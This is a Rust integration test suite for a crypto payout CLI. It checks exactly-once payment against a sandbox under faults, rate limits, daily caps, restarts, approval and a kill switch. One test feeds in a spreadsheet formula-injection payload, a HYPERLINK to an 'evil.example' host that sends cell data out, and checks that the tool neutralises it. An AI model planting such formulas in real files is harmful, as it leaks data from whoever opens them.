//! `ccpayout submit`: exactly once against the sandbox, with faults, limits and restarts.
//!
//! These run the real binary against a sandbox on loopback on the real clock with short settle
//! and tracking delays; the sandbox's ledger is the proof of what was paid.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use ccpayout::sandbox::{AttemptOutcome, Faults, Ledger, RateLimit, SandboxConfig};
use serde_json::Value;

use crate::helpers::{TestApi, command, run_ccpayout};

/// A config with short tracking delays, a generous rate and small backoffs for tests.
pub(crate) fn write_config(dir: &Path, extra: &str) -> PathBuf {
    let path = dir.join("ccpayout.toml");
    std::fs::write(
        &path,
        // A short request timeout lets "no such order" be confirmed in seconds (R2/R3), so the
        // tests with lost requests do not wait the minute a real account would.
        format!(
            "[api]\nconnect_timeout_ms = 1000\nrequest_timeout_ms = 3000\n\
             [limits]\nrate_per_second = 200\nconcurrency = 8\ntrack_first_check_secs = 1\ntrack_max_interval_secs = 2\n\
             not_found_confirm_secs = 3\n{extra}"
        ),
    )
    .unwrap();
    path
}

pub(crate) fn sandbox_config() -> SandboxConfig {
    SandboxConfig {
        settle_delay: Duration::from_millis(300),
        ..SandboxConfig::default()
    }
}

/// A CSV of `n` USDT payouts on TRX with ids `{prefix}-0000…`.
fn batch_file(dir: &Path, name: &str, prefix: &str, n: usize, amount: &str) -> PathBuf {
    let recipients = [
        "TFVq4F22oTuPf1Z3a27awyrKt3azrmep6K",
        "TSGACwShBWKpUV3mCp5yh3zwn36kYtDZNr",
        "TVqoGi64Ad2mSiPNsqVnqB2VkLGi7Mx1vq",
    ];
    let mut text = String::from("order_id,recipient,coin,chain,amount\n");
    for i in 0..n {
        text.push_str(&format!("{prefix}-{i:04},{},USDT,TRX,{amount}\n", recipients[i % 3]));
    }
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

pub(crate) struct Run {
    pub(crate) code: Option<i32>,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
}

impl Run {
    /// The standard output as JSON (`--json`), failing the test with both outputs otherwise.
    pub(crate) fn json(&self) -> serde_json::Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| panic!("{e}: {}\n{}", self.stdout, self.stderr))
    }
}

/// `ccpayout --config CONFIG --state-dir STATE ARGS…` against the sandbox.
pub(crate) fn ccpayout(api: &TestApi, state: &Path, config: &Path, args: &[&str]) -> Run {
    let mut full = vec![
        "--config",
        config.to_str().unwrap(),
        "--state-dir",
        state.to_str().unwrap(),
    ];
    full.extend_from_slice(args);
    let out = run_ccpayout(api, &full);
    Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into(),
        stderr: String::from_utf8_lossy(&out.stderr).into(),
    }
}

pub(crate) fn submit(api: &TestApi, state: &Path, config: &Path, file: &Path) -> Run {
    ccpayout(api, state, config, &["submit", file.to_str().unwrap()])
}

/// Every order id in the ledger was paid at most once; returns payouts per order id.
pub(crate) fn paid_once(ledger: &Ledger) -> BTreeMap<String, usize> {
    let mut per_order = BTreeMap::new();
    for p in &ledger.payouts {
        *per_order.entry(p.order_id.clone()).or_insert(0) += 1;
    }
    for (id, n) in &per_order {
        assert_eq!(*n, 1, "order {id} was paid {n} times");
    }
    per_order
}

/// The rows of the result JSON report of the only batch in `state`.
fn result_rows(state: &Path) -> Vec<Value> {
    let reports = state.join("reports");
    let file = std::fs::read_dir(&reports)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().ends_with(".result.json"))
        .expect("a result report");
    let json: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    json["rows"].as_array().unwrap().clone()
}

async fn settle_ledger(api: &TestApi) -> Ledger {
    tokio::task::yield_now().await;
    api.sandbox.ledger()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn submitting_the_payroll_pays_every_row_once_and_again_pays_nothing() {
    let api = TestApi::start_live(sandbox_config()).await;
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let payroll = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/payroll.csv"));

    let first = submit(&api, &state, &config, payroll);
    assert_eq!(first.code, Some(0), "{}\n{}", first.stdout, first.stderr);
    assert!(
        first.stdout.contains("reports:") && first.stdout.contains(".result.csv"),
        "{}",
        first.stdout
    );
    let ledger = settle_ledger(&api).await;
    assert_eq!(paid_once(&ledger).len(), 20);
    let rows = result_rows(&state);
    assert_eq!(rows.len(), 20);
    for row in &rows {
        assert_eq!(row["status"], "success", "{row}");
        assert!(row["record_id"].is_string(), "{row}");
    }
    // Cwallet transfers are followed by polling (they get no webhook) and have no tx id.
    let cwallet: Vec<&Value> = rows.iter().filter(|r| r["chain"] == "CWALLET").collect();
    assert_eq!(cwallet.len(), 2);
    assert!(cwallet.iter().all(|r| r["tx_id"].is_null()));
    // Chain payouts link to the explorer.
    let trx = rows.iter().find(|r| r["chain"] == "TRX").unwrap();
    assert!(
        trx["explorer_url"]
            .as_str()
            .unwrap()
            .starts_with("https://tronscan.org/#/transaction/"),
        "{trx}"
    );

    let attempts_before = ledger.attempts.len();
    let second = submit(&api, &state, &config, payroll);
    assert_eq!(second.code, Some(0), "{}\n{}", second.stdout, second.stderr);
    assert!(second.stderr.contains("already known"), "{}", second.stderr);
    let ledger = api.sandbox.ledger();
    assert_eq!(ledger.payouts.len(), 20);
    assert_eq!(
        ledger.attempts.len(),
        attempts_before,
        "the second run sent no withdrawal"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replies_dropped_after_commit_are_reconciled_and_never_paid_twice() {
    let config = SandboxConfig {
        faults: Faults {
            drop_after_commit: 0.5,
            http_5xx: 0.1,
            internal_11002: 0.1,
            ..Faults::default()
        },
        seed: 7,
        ..sandbox_config()
    };
    let api = TestApi::start_live(config).await;
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let file = batch_file(dir.path(), "drops.csv", "drop", 30, "5");

    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let ledger = api.sandbox.ledger();
    assert_eq!(paid_once(&ledger).len(), 30);
    let dropped = ledger
        .attempts
        .iter()
        .filter(|a| matches!(&a.outcome, AttemptOutcome::Fault { fault } if fault == "drop_after_commit"))
        .count();
    assert!(dropped > 0, "the seed produced no dropped replies");
    assert!(result_rows(&state).iter().all(|r| r["status"] == "success"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rate_limit_storm_slows_everyone_and_everything_is_paid() {
    let config = SandboxConfig {
        rate_limit: Some(RateLimit {
            per_second: 20.0,
            burst: 2,
        }),
        ..sandbox_config()
    };
    let api = TestApi::start_live(config).await;
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let file = batch_file(dir.path(), "storm.csv", "storm", 40, "2");

    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let ledger = api.sandbox.ledger();
    assert_eq!(paid_once(&ledger).len(), 40);
    let limited = ledger
        .attempts
        .iter()
        .filter(|a| matches!(a.outcome, AttemptOutcome::Refused { code: 11004 }))
        .count();
    assert!(limited > 0, "configured at 50/s against 20/s, the storm must happen");
    // Backing off keeps the refusals bounded instead of hammering the API.
    assert!(limited < 120, "{limited} requests answered 11004 for 40 orders");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_daily_limit_pause_survives_a_restart_and_lifts_at_the_reset() {
    let day = Duration::from_secs(4);
    let config = SandboxConfig {
        daily_create_limit: Some(3),
        day_length: day,
        ..sandbox_config()
    };
    let api = TestApi::start_live(config).await;
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = write_config(dir.path(), "day_length_secs = 4\n");
    let file = batch_file(dir.path(), "daily.csv", "daily", 5, "2");

    // First run: three creates, then 11009; kill the process while it waits for the reset.
    let mut child = command(
        &api,
        &[
            "--config",
            config.to_str().unwrap(),
            "--state-dir",
            state.to_str().unwrap(),
            "submit",
            file.to_str().unwrap(),
        ],
    )
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null())
    .spawn()
    .unwrap();
    let started = Instant::now();
    let first_11009 = loop {
        let ledger = api.sandbox.ledger();
        if let Some(a) = ledger
            .attempts
            .iter()
            .find(|a| matches!(a.outcome, AttemptOutcome::Refused { code: 11009 }))
        {
            break a.at_ms;
        }
        assert!(started.elapsed() < Duration::from_secs(20), "no 11009 came");
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    // Give the engine a moment to persist the pause, then SIGKILL it.
    tokio::time::sleep(Duration::from_millis(200)).await;
    child.kill().unwrap();
    child.wait().unwrap();

    let store = ccpayout::store::Store::open(&state).unwrap();
    let pause = store
        .get(&ccpayout::engine::PAUSE)
        .unwrap()
        .expect("the pause is persisted");
    let until = pause.daily_until_ms.expect("a daily pause");
    assert!(until > first_11009, "the pause lasts until the reset");
    drop(store);

    // Second run: waits for the reset, then finishes.
    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let ledger = api.sandbox.ledger();
    assert_eq!(paid_once(&ledger).len(), 5);
    let sent_while_paused = ledger
        .attempts
        .iter()
        .filter(|a| a.at_ms > first_11009 + 100 && a.at_ms < until)
        .count();
    assert_eq!(
        sent_while_paused, 0,
        "nothing may be sent between the 11009 and the reset"
    );
    assert!(
        ledger.payouts.iter().filter(|p| p.created_ms >= until).count() >= 2,
        "the rest were paid after the reset"
    );
}

/// A day whose cap was used up before this process heard any 11009 (another process took the
/// last slot and stopped, or the operator's other tools used it): a fresh `submit` cannot know,
/// but it learns it from one refused create, not from a whole round of them — it sends one create
/// until CCPayment has answered one — then waits for the reset and pays the rest.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_day_capped_before_the_start_costs_one_refused_create_not_a_round() {
    let day_ms: i64 = 6_000;
    let api = TestApi::start_live(SandboxConfig {
        daily_create_limit: Some(3),
        day_length: Duration::from_millis(day_ms as u64),
        ..sandbox_config()
    })
    .await;
    // Use up the day's cap with other orders, early enough in the day to start before the reset.
    loop {
        let now = ccpayout::util::clock::system().now_ms();
        if now.rem_euclid(day_ms) < 2_500 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    for i in 0..3 {
        api.client
            .apply_app_withdraw_to_network(&crate::helpers::trx_withdraw(&format!("other-{i}"), "5"))
            .await
            .expect("within the cap");
    }
    let started_ms = ccpayout::util::clock::system().now_ms();
    let reset_ms = (started_ms.div_euclid(day_ms) + 1) * day_ms;
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    // Eight in flight allowed: without the one-create start, a whole round would be refused.
    let config = write_config(dir.path(), "day_length_secs = 6\n");
    let file = batch_file(dir.path(), "capped.csv", "capped", 3, "2");
    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let ledger = api.sandbox.ledger();
    let refused_before_reset = ledger
        .attempts
        .iter()
        .filter(|a| matches!(a.outcome, AttemptOutcome::Refused { code: 11009 }))
        .filter(|a| a.at_ms >= started_ms && a.at_ms < reset_ms)
        .count();
    assert_eq!(refused_before_reset, 1, "one refused create, then the pause");
    let paid = paid_once(&ledger);
    for i in 0..3 {
        assert_eq!(paid.get(&format!("capped-{i:04}")), Some(&1), "{paid:?}");
    }
}

/// A formula in a free-text column (issue 14, 5) reaches the result CSV as text that a
/// spreadsheet shows and never runs, and the JSON report as the exact text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_the_reference_column_is_no_live_formula_in_the_result_csv() {
    let api = TestApi::start_live(sandbox_config()).await;
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let file = dir.path().join("formula.csv");
    std::fs::write(
        &file,
        format!(
            "order_id,recipient,coin,chain,amount,reference\n\
             fx-1,TFVq4F22oTuPf1Z3a27awyrKt3azrmep6K,USDT,TRX,5,\"{}\"\n\
             fx-2,TSGACwShBWKpUV3mCp5yh3zwn36kYtDZNr,USDT,TRX,5,@SUM(A1:A9)\n",
            evil.replace('"', "\"\"")
        ),
    )
    .unwrap();
    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let reports: Vec<std::path::PathBuf> = std::fs::read_dir(state.join("reports"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    let find = |suffix: &str| {
        reports
            .iter()
            .find(|p| p.to_string_lossy().ends_with(suffix))
            .unwrap_or_else(|| panic!("no {suffix} in {reports:?}"))
            .clone()
    };
    let csv_text = std::fs::read_to_string(find(".result.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let reference = headers.iter().position(|h| h == "reference").unwrap();
    let mut seen = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!live, "a live formula in the result CSV: {cell:?}");
        }
        seen.push(record[reference].to_owned());
    }
    assert_eq!(seen, [format!("'{evil}"), "'@SUM(A1:A9)".to_owned()]);
    let json = std::fs::read_to_string(find(".result.json")).unwrap();
    assert!(json.contains(&serde_json::to_string(evil).unwrap()), "{json}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_permanent_error_rejects_only_that_order() {
    let api = TestApi::start_live(sandbox_config()).await;
    api.sandbox
        .force_error("applyAppWithdrawToNetwork", 14015, "WithdrawToContractAddress", 1);
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let file = batch_file(dir.path(), "perm.csv", "perm", 6, "3");

    let run = submit(&api, &state, &config, &file);
    assert_eq!(
        run.code,
        Some(1),
        "a rejected row makes the exit code 1\n{}\n{}",
        run.stdout,
        run.stderr
    );
    let rows = result_rows(&state);
    let rejected: Vec<&Value> = rows.iter().filter(|r| r["status"] == "rejected").collect();
    assert_eq!(rejected.len(), 1, "{rows:?}");
    assert_eq!(rejected[0]["error_code"], "14015");
    assert!(
        rejected[0]["error_message"].as_str().unwrap().contains("14015"),
        "{:?}",
        rejected[0]
    );
    assert_eq!(rows.iter().filter(|r| r["status"] == "success").count(), 5);
    assert_eq!(paid_once(&api.sandbox.ledger()).len(), 5);
}

/// R2 (ccpayment-api.md §5): a lookup right after a lost reply may not see the create yet. One
/// "not found" is no proof: the order is not sent again until its absence is confirmed, and the
/// next lookup finds it. (Before the confirmation, this resent at once: two creates.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_single_not_found_after_a_lost_reply_sends_nothing_again() {
    let api = TestApi::start_live(sandbox_config()).await;
    api.sandbox.set_faults(Faults {
        drop_after_commit: 1.0,
        ..Faults::default()
    });
    api.sandbox.force_error("getAppWithdrawRecord", 11003, "NotFound", 1);
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let file = batch_file(dir.path(), "lag.csv", "lag", 1, "4");
    // The fault drops every create's reply; let the first one through, then stop the faults so
    // the lookups that follow are answered.
    let watcher = {
        let url = api.sandbox.base_url();
        tokio::spawn(async move {
            let started = std::time::Instant::now();
            let http = reqwest::Client::new();
            while started.elapsed() < Duration::from_secs(10) {
                if let Ok(resp) = http.get(format!("{url}/sandbox/ledger")).send().await
                    && let Ok(bytes) = resp.bytes().await
                    && let Ok(ledger) = serde_json::from_slice::<Ledger>(&bytes)
                    && !ledger.attempts.is_empty()
                {
                    return;
                }
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
    };
    let run = tokio::task::spawn_blocking({
        let (state, config, file) = (state.clone(), config.clone(), file.clone());
        let env = api.env();
        move || {
            let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_ccpayout"));
            cmd.args([
                "--config",
                config.to_str().unwrap(),
                "--state-dir",
                state.to_str().unwrap(),
                "submit",
                file.to_str().unwrap(),
            ])
            .env_remove("CCPAYOUT_CONFIG")
            .envs(env);
            cmd.output().unwrap()
        }
    });
    watcher.await.unwrap();
    api.sandbox.set_faults(Faults::default());
    let out = run.await.unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let ledger = api.sandbox.ledger();
    assert_eq!(paid_once(&ledger).len(), 1);
    // The sandbox logs a committed create whose reply it dropped twice (created, then the
    // fault); a resend would add a third entry, refused 11011.
    let attempts = ledger.attempts_for("lag-0000");
    let sends = attempts
        .iter()
        .filter(|a| !matches!(a.outcome, AttemptOutcome::Fault { .. }))
        .count();
    assert_eq!(sends, 1, "one create only: {attempts:?}");
    assert_eq!(result_rows(&state)[0]["status"], "success");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_11011_on_a_resend_is_reconciled_into_one_payout() {
    let api = TestApi::start_live(sandbox_config()).await;
    // The first create's reply is lost after commit; the lookups then wrongly say NotFound, long
    // enough to pass the confirmation (two lookups, 3 s since the send), so the engine resends
    // with the same orderId, gets 11011, and must reconcile again.
    api.sandbox.set_faults(Faults {
        drop_after_commit: 1.0,
        ..Faults::default()
    });
    api.sandbox.force_error("getAppWithdrawRecord", 11003, "NotFound", 6);
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let file = batch_file(dir.path(), "dup.csv", "resend", 1, "4");

    let watcher = {
        let started = Instant::now();
        tokio::spawn({
            let url = api.sandbox.base_url();
            async move {
                ccpayout::api::ensure_crypto_provider();
                // Once the first create is in the ledger, stop dropping replies.
                loop {
                    let body = match reqwest::get(format!("{url}/sandbox/ledger")).await {
                        Ok(resp) => resp.bytes().await.ok(),
                        Err(_) => None,
                    };
                    if let Some(bytes) = body
                        && let Ok(ledger) = serde_json::from_slice::<Ledger>(&bytes)
                        && !ledger.attempts.is_empty()
                    {
                        return;
                    }
                    if started.elapsed() > Duration::from_secs(10) {
                        return;
                    }
                    tokio::time::sleep(Duration::from_millis(5)).await;
                }
            }
        })
    };
    let run = tokio::task::spawn_blocking({
        let (state, config, file) = (state.clone(), config.clone(), file.clone());
        let env = api.env();
        move || {
            let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_ccpayout"));
            cmd.args([
                "--config",
                config.to_str().unwrap(),
                "--state-dir",
                state.to_str().unwrap(),
                "submit",
                file.to_str().unwrap(),
            ])
            .env_remove("CCPAYOUT_CONFIG")
            .envs(env);
            cmd.output().unwrap()
        }
    });
    watcher.await.unwrap();
    api.sandbox.set_faults(Faults::default());
    let out = run.await.unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));

    let ledger = api.sandbox.ledger();
    assert_eq!(paid_once(&ledger).len(), 1);
    let attempts = ledger.attempts_for("resend-0000");
    assert!(
        attempts.iter().any(|a| matches!(
            a.outcome,
            AttemptOutcome::Refused { code: 11011 } | AttemptOutcome::Refused { code: 11007 }
        )),
        "the resend met the duplicate check: {attempts:?}"
    );
    assert_eq!(result_rows(&state)[0]["status"], "success");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_order_id_reused_with_a_different_payload_is_a_conflict() {
    let api = TestApi::start_live(sandbox_config()).await;
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let first = batch_file(dir.path(), "a.csv", "reuse", 2, "5");
    assert_eq!(submit(&api, &state, &config, &first).code, Some(0));

    // Same ids, another amount: a different file, so a different batch, whose rows conflict.
    let second = batch_file(dir.path(), "b.csv", "reuse", 2, "6");
    let run = submit(&api, &state, &config, &second);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("for a different payout"), "{}", run.stdout);
    assert_eq!(api.sandbox.ledger().payouts.len(), 2, "nothing more was paid");

    // Same ids and payloads in another file: duplicates, reported and not paid again.
    let third_path = dir.path().join("c.csv");
    std::fs::write(
        &third_path,
        std::fs::read_to_string(&first).unwrap().replace("amount", "AMOUNT"),
    )
    .unwrap();
    let run = submit(&api, &state, &config, &third_path);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert_eq!(api.sandbox.ledger().payouts.len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn status_tracking_costs_at_most_a_tenth_of_a_request_per_order() {
    // Settlement well before the first status query, as on a real chain with a sensible
    // track_first_check_secs: each query then finds its 20 orders final.
    let api = TestApi::start_live(SandboxConfig {
        settle_delay: Duration::from_millis(100),
        ..SandboxConfig::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let (state, config) = (dir.path().join("state"), write_config(dir.path(), ""));
    let file = batch_file(dir.path(), "track.csv", "track", 400, "2");

    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    assert_eq!(paid_once(&api.sandbox.ledger()).len(), 400);
    // "API requests this run: N (a endpoint, b endpoint, ...)"
    let line = run
        .stdout
        .lines()
        .find(|l| l.starts_with("API requests this run:"))
        .expect("request counts printed");
    let count = |endpoint: &str| -> u64 {
        line.split(['(', ',', ')'])
            .map(str::trim)
            .find_map(|part| part.strip_suffix(endpoint).and_then(|n| n.trim().parse().ok()))
            .unwrap_or(0)
    };
    let tracking = count("getAppWithdrawRecordList") + count("getAppWithdrawRecord");
    assert_eq!(count("applyAppWithdrawToNetwork"), 400, "{line}");
    assert!(tracking > 0, "{line}");
    assert!(
        tracking * 10 <= 400,
        "tracking used {tracking} requests for 400 orders: {line}"
    );
}

fn control(api: &TestApi, state: &Path, args: &[&str]) -> Run {
    let mut full = vec!["--state-dir", state.to_str().unwrap()];
    full.extend_from_slice(args);
    let out = run_ccpayout(api, &full);
    Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into(),
        stderr: String::from_utf8_lossy(&out.stderr).into(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_batch_that_needs_approval_pays_only_after_its_exact_digest_is_approved() {
    let api = TestApi::start_live(sandbox_config()).await;
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = write_config(dir.path(), "[policy]\napproval = \"always\"\n");
    let file = batch_file(dir.path(), "approve.csv", "appr", 3, "5");

    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("needs approval") && run.stderr.contains("ccpayout approve"),
        "{}",
        run.stderr
    );
    assert!(
        api.sandbox.ledger().attempts.is_empty(),
        "nothing is sent before approval"
    );
    let digest = run
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("plan digest: "))
        .expect("digest shown")
        .to_owned();
    let name = run
        .stderr
        .split_whitespace()
        .skip_while(|w| *w != "batch")
        .nth(1)
        .expect("batch name")
        .to_owned();

    let wrong = control(&api, &state, &["approve", &name, "--digest", &"0".repeat(64)]);
    assert_eq!(wrong.code, Some(1), "{}", wrong.stderr);
    assert!(wrong.stderr.contains("does not match"), "{}", wrong.stderr);
    let status = control(&api, &state, &["status", &name]);
    assert!(
        status.stdout.contains("REQUIRED") && status.stdout.contains(&digest),
        "{}",
        status.stdout
    );

    let right = control(&api, &state, &["approve", &name, "--digest", &digest]);
    assert_eq!(right.code, Some(0), "{}", right.stderr);
    assert!(right.stdout.contains("3 orders released"), "{}", right.stdout);
    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    assert_eq!(paid_once(&api.sandbox.ledger()).len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancel_and_the_kill_switch_stop_what_has_not_been_sent() {
    let api = TestApi::start_live(sandbox_config()).await;
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = write_config(dir.path(), "[policy]\napproval = \"always\"\n");
    let file = batch_file(dir.path(), "cancel.csv", "cncl", 2, "5");
    let run = submit(&api, &state, &config, &file);
    assert_eq!(run.code, Some(1));
    let name = run
        .stderr
        .split_whitespace()
        .skip_while(|w| *w != "batch")
        .nth(1)
        .unwrap()
        .to_owned();
    let cancelled = control(&api, &state, &["cancel", &name]);
    assert!(
        cancelled.stdout.contains("cancelled 2 unsent orders"),
        "{}",
        cancelled.stdout
    );
    let report = control(&api, &state, &["report", &name]);
    assert_eq!(report.code, Some(0), "{}", report.stderr);
    assert!(result_rows(&state).iter().all(|r| r["status"] == "cancelled"));

    // The kill switch: nothing is sent while it is on, and it survives until resumed.
    let other = batch_file(dir.path(), "paused.csv", "paus", 2, "5");
    let plain_dir = dir.path().join("plain");
    std::fs::create_dir_all(&plain_dir).unwrap();
    let plain_config = write_config(&plain_dir, "");
    assert_eq!(
        control(&api, &state, &["pause", "--reason", "incident 42"]).code,
        Some(0)
    );
    let status = control(&api, &state, &["status"]);
    assert!(
        status.stdout.contains("PAUSED") && status.stdout.contains("incident 42"),
        "{}",
        status.stdout
    );
    let run = submit(&api, &state, &plain_config, &other);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(run.stderr.contains("paused by an operator"), "{}", run.stderr);
    assert!(api.sandbox.ledger().attempts.is_empty());
    assert_eq!(control(&api, &state, &["resume"]).code, Some(0));
    let run = submit(&api, &state, &plain_config, &other);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    assert_eq!(paid_once(&api.sandbox.ledger()).len(), 2);
}
